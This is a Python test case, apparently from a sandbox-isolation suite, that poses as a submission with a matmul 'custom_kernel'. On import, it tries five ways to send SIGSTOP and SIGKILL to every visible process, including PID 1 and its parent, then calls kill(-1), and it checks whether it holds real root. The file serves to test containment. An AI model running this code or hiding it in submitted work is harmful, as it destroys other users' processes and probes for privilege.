# id: S08 kill_everyone
# expect: passed crashed
# level: weak
# alone: where walls are low, it strikes all that its user runs
# never_prints: GAINED
# Each way to send a signal, to each process in sight and to all at once; never as the real root.
import ctypes
import fcntl
import os
import signal

import torch

libc = ctypes.CDLL(None, use_errno=True)
F_SETSIG = 10


def by_ownership(pid, number):
    """A pipe's owner is sent a signal when something can be read."""
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
    fcntl.fcntl(reader, F_SETSIG, number)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")


ways = (
    os.kill,
    os.killpg,
    lambda pid, number: libc.syscall(234, pid, pid, number),  # tgkill
    lambda pid, number: signal.pidfd_send_signal(os.pidfd_open(pid), number),
    by_ownership,
)
namespaced = open("/proc/self/uid_map").read().split() != ["0", "0", "4294967295"]
if os.getuid() == 0 and not namespaced:
    print("GAINED root", flush=True)
else:
    try:
        others = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:  # a folder that may not be listed may still be passed
        others = set(range(max(1, os.getpid() - 2000), os.getpid() + 10))
    others -= {os.getpid()}
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in sorted(others | {1, os.getppid()} - {0}):
            for way in ways:
                try:
                    way(pid, number)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
print("LOOKED", flush=True)


def custom_kernel(data):
    left, right, out = data
    return torch.matmul(left, right, out=out)
